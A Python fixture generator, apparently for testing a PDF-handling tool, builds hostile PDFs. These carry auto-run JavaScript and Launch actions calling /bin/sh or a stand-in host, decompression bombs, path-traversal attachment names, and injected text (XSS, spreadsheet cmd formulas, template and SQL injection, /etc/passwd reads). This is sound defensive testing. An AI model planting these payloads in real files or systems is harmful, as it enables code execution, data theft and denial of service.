"""Letters in PDF with locks, actions, attachments and names that nobody asked for."""

from collections.abc import Callable
from io import BytesIO

import pikepdf

from hostile import Files, kind
from hostile._letter import LINES, pdf
from hostile._pdf import bomb


def changed(change: Callable[[pikepdf.Pdf], None], **options: object) -> bytes:
    """The good letter, changed and saved again."""
    file = BytesIO()
    with pikepdf.open(BytesIO(pdf())) as opened:
        change(opened)
        opened.save(file, **options)
    return file.getvalue()


def nothing(_opened: pikepdf.Pdf) -> None:
    """Change nothing."""


def acting(**action: object) -> Callable[[pikepdf.Pdf], None]:
    """Do something as soon as the file is opened, and at each turn of a page."""

    def change(opened: pikepdf.Pdf) -> None:
        made = pikepdf.Dictionary(**action)
        opened.Root.OpenAction = made
        opened.Root.AA = pikepdf.Dictionary(WC=made, WP=made)
        opened.pages[0].obj.AA = pikepdf.Dictionary(O=made, C=made)

    return change


@kind(holds_letter=True)
def actions() -> Files:
    name, text = pikepdf.Name, pikepdf.String
    outside = text("http://203.0.113.1/")
    return {
        "script.pdf": changed(
            acting(S=name.JavaScript, JS=text("app.launchURL('http://203.0.113.1')"))
        ),
        "endless-script.pdf": changed(acting(S=name.JavaScript, JS=text("while(1){}"))),
        "launch.pdf": changed(acting(S=name.Launch, F=text("/bin/sh"))),
        "uri.pdf": changed(acting(S=name.URI, URI=outside)),
        "submit.pdf": changed(acting(S=name.SubmitForm, F=outside)),
        "go-elsewhere.pdf": changed(
            acting(S=name.GoToR, F=text("\\\\203.0.113.1\\share"), D=text("a"))
        ),
        "import.pdf": changed(acting(S=name.ImportData, F=outside)),
        "named.pdf": changed(acting(S=name.Named, N=name.Print)),
    }


def _only(revision: int) -> dict[str, bool]:
    """What old locks cannot do."""
    return {} if revision >= 4 else {"aes": False, "metadata": False}


@kind()
def locked() -> Files:
    def under(revision: int) -> bytes:
        lock = pikepdf.Encryption(user="secret", owner="other", R=revision, **_only(revision))
        return changed(nothing, encryption=lock)

    good = under(4)
    return {
        **{f"revision-{number}.pdf": under(number) for number in (2, 3, 4, 6)},
        "unknown-version.pdf": good.replace(b"/V 4", b"/V 9"),
        "unknown-handler.pdf": good.replace(b"/Filter /Standard", b"/Filter /Unheard"),
        "long-key.pdf": good.replace(b"/Length 128", b"/Length 999"),
        "broken-key.pdf": good.replace(b"/O <", b"/O (").replace(b"/U <", b"/U ("),
        "circle.pdf": good.replace(b"/P -", b"/P 1 0 R /Q -"),
    }


@kind(holds_letter=True)
def locked_for_changes_only() -> Files:
    return {
        f"revision-{number}.pdf": changed(
            nothing,
            encryption=pikepdf.Encryption(user="", owner="other", R=number, **_only(number)),
        )
        for number in (3, 4, 6)
    }


@kind(holds_letter=True)
def attachments() -> Files:
    def holding(*files: tuple[str, bytes]) -> Callable[[pikepdf.Pdf], None]:
        def change(opened: pikepdf.Pdf) -> None:
            for name, data in files:
                opened.attachments[name] = pikepdf.AttachedFileSpec(opened, data, filename=name)

        return change

    within = pdf()
    for _ in range(8):
        file = BytesIO()
        with pikepdf.open(BytesIO(within)) as opened:
            opened.attachments["a.pdf"] = pikepdf.AttachedFileSpec(opened, within, filename="a.pdf")
            opened.save(file)
        within = file.getvalue()

    def bombed(opened: pikepdf.Pdf) -> None:
        holding(("a.bin", b"x"))(opened)
        for held in opened.objects:
            if isinstance(held, pikepdf.Stream) and held.get("/Type") == "/EmbeddedFile":
                held.write(bomb(1000), filter=pikepdf.Name.FlateDecode)

    return {
        "many.pdf": changed(holding(*((f"{n}.txt", b"a") for n in range(1000)))),
        "within.pdf": within,
        "bomb.pdf": changed(bombed),
        "names.pdf": changed(holding(("../../../../etc/passwd", b"a"), ("\x1b[2J=cmd()", b"a"))),
        "program.pdf": changed(holding(("letter.exe", b"MZ" + bytes(999)))),
    }


@kind(holds_letter=True)
def truncated() -> Files:
    good = pdf()
    return {f"{n:02}.pdf": good[: len(good) * n // 20] for n in range(1, 20)}


@kind(holds_letter=True)
def garbage_around() -> Files:
    good = pdf()
    return {
        "before.pdf": b"\0" * 900 + good,
        "far-before.pdf": b"\0" * 5000 + good,
        "behind.pdf": good + b"\0" * 100_000,
        "no-header.pdf": good[9:],
        "no-table.pdf": good[: good.rindex(b"xref\n0")] + b"%%EOF",
        "no-end.pdf": good[: good.rindex(b"startxref")],
        "line-ends.pdf": good.replace(b"\n", b"\r\n"),
        "twice.pdf": good + good,
        "far-table.pdf": good.replace(b"startxref\n", b"startxref\n9"),
    }


@kind(holds_letter=True)
def text_that_acts() -> Files:
    """Words that are code to whoever shows them."""
    acts = {
        "html": "<script>document.title='pwned'</script><img src=x onerror=alert(1)>",
        "formula": '=HYPERLINK("http://203.0.113.1","Cook")',
        "command": "=cmd|' /C calc'!A0",
        "plus": "+1+cmd|' /C calc'!A0",
        "at": "@SUM(1+9)*cmd|' /C calc'!A0",
        "template": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
        "typst": '#read("/etc/passwd") #import "@preview/a:1.0.0" $ x $',
        "markdown": "](http://203.0.113.1) ![a](http://203.0.113.1/a.png) | a | b |",
        "percent": "%s%s%s%n %(a)s {0.__class__} {a!r}",
        "workflow": "::error file=a,line=1::pwned %0A::set-output name=a::b",
        "quotes": "\"'`--></style></script><!-- ]]> \\u0022",
        "query": "'; DROP TABLE letters; --",
    }
    files = {}
    for name, said in acts.items():
        lines = list(LINES)
        lines[0] = f"Bluewater {said} Ltd."
        lines[8] = lines[8].replace("Amara Nwosu", f"Amara {said} Nwosu")
        lines[14] = f"- {said}"
        lines[-2] = f"Claire {said} Dubois"
        files[f"{name}.pdf"] = pdf(tuple(lines))
    return files
